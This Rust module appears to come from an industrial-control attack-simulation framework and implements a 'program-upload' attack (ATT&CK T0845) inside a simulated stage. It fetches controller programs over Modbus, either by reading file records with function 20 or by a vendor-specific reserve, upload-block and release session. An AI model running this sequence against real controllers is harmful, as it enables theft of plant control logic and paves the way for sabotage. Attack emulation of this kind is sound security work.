//! Program upload: the program of a controller is fetched in blocks, as file records or by the vendor's
//! function.

use tokio_modbus::Response;

use super::{Attack, Needs, technique};
use crate::net::reach::{Reach, Said, UNIT, vendor};
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "program-upload",
    about: "fetches the program of controllers in blocks",
    technique: technique("T0845"),
    acceptable: &["T0811"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["records", "vendor"],
    needs: Needs::Sockets,
    seconds: [1200, 90, 8],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let most = stage.by(1, 1, 3);
    for controller in stage.controllers(most) {
        let mut master = intruder.reach(controller);
        let gap = stage.by(11.0, 0.8, 0.02);
        if stage.is("vendor") {
            orders(&mut stage, &mut master, gap).await?;
        } else {
            records(&mut stage, &mut master, gap).await?;
        }
    }
    Ok(())
}

/// Reads the records of the program's file (function 20) until there are no more.
async fn records(stage: &mut Stage, master: &mut Reach, gap: f64) -> Outcome {
    for record in (0..10_000_u16).step_by(RECORDS.into()) {
        let [high, low] = record.to_be_bytes();
        let count = RECORDS.min(10_000 - record) as u8;
        match master.special(UNIT, 20, &[7, 6, 0, FILE, high, low, 0, count]).await? {
            Said::Exception(_) => break,
            Said::Answer(_) | Said::Nothing => stage.pause(gap).await,
        }
    }
    Ok(())
}

/// Fetches blocks by the vendor's function until one is refused.
async fn orders(stage: &mut Stage, master: &mut Reach, gap: f64) -> Outcome {
    let session = 0x40 | stage.rng.below(0x3f) as u8;
    master.vendor(0, vendor::HELLO, &[0]).await?;
    master.vendor(0, vendor::ABOUT, &[]).await?;
    master.vendor(0, vendor::RESERVE, vendor::WHO).await?;
    master.vendor(session, vendor::UPLOAD, &[0, 1]).await?;
    for block in 0..MOST_BLOCKS {
        let [low, high] = block.to_le_bytes();
        match master.vendor(session, vendor::UPLOAD_BLOCK, &[0, 1, low, high]).await? {
            Said::Answer(Response::Custom(_, data)) if data.get(1) == Some(&0xfe) => stage.pause(gap).await,
            Said::Nothing => stage.pause(gap).await,
            _ => break,
        }
    }
    master.vendor(session, vendor::UPLOAD_END, &[0, 1]).await?;
    master.vendor(session, vendor::RELEASE, &[]).await?;
    Ok(())
}

/// The file that holds the program.
const FILE: u8 = 4;
/// Records in a message: below the 121 that fit.
const RECORDS: u16 = 120;
/// No program is larger.
const MOST_BLOCKS: u16 = 256;
